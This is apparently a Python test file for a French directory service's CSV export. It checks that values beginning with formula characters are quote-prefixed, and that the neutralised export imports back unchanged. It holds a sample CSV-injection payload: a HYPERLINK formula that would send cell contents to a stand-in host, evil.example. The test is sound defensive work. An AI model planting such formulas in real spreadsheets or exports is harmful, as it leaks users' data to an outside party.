"""The directory export, as every signed-in user downloads it, cannot carry a spreadsheet
formula: a raison sociale `=HYPERLINK(…)` comes out quoted."""

import csv
import io
from datetime import date

from chorale_runtime.csv_safe import restore
from chorale_structures.adapters.structure_store import StoredStructure
from chorale_structures.domain.csv_import import ImportOutcome, classify, iter_import_rows
from chorale_structures.domain.directory import STRUCTURE_COLUMNS
from chorale_structures.domain.structures import new_public_structure
from chorale_structures.service_layer.directory_export import export_directory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez ici")'


class _Store:
    def __init__(self, stored):
        self._stored = stored

    async def iter_all(self, batch_size):
        yield self._stored


async def test_a_formula_in_a_raison_sociale_is_neutralised_in_the_csv_export():
    created = new_public_structure(
        {"identifiant": "20007104100046", "raisonSociale": EVIL, "ville": "@SUM(1+1)",
         "adresse": "-2+3"},
        today=date(2025, 1, 1),
    )
    stored = StoredStructure(created.structure, {"FACTURES_PUBLIQUES": created.reserved_service})
    text = "".join([part async for part in export_directory(_Store([stored]), "csv",
                                                              "structures", 100)])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    row = dict(zip(STRUCTURE_COLUMNS, rows[1], strict=True))
    assert row["raisonSociale"] == "'" + EVIL
    assert (row["ville"], row["adresse"]) == ("'@SUM(1+1)", "'-2+3")
    assert row["identifiant"] == "20007104100046"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


async def test_the_neutralised_export_imports_back_as_it_was_stored():
    created = new_public_structure(
        {"identifiant": "20007104100046", "raisonSociale": EVIL, "ville": "-Ville"},
        today=date(2025, 1, 1),
    )
    stored = StoredStructure(created.structure, {})
    text = "".join([part async for part in export_directory(_Store([stored]), "csv",
                                                              "structures", 100)])
    [row] = list(iter_import_rows(io.StringIO(text), restore))
    assert classify(created.structure, row) is ImportOutcome.UNCHANGED
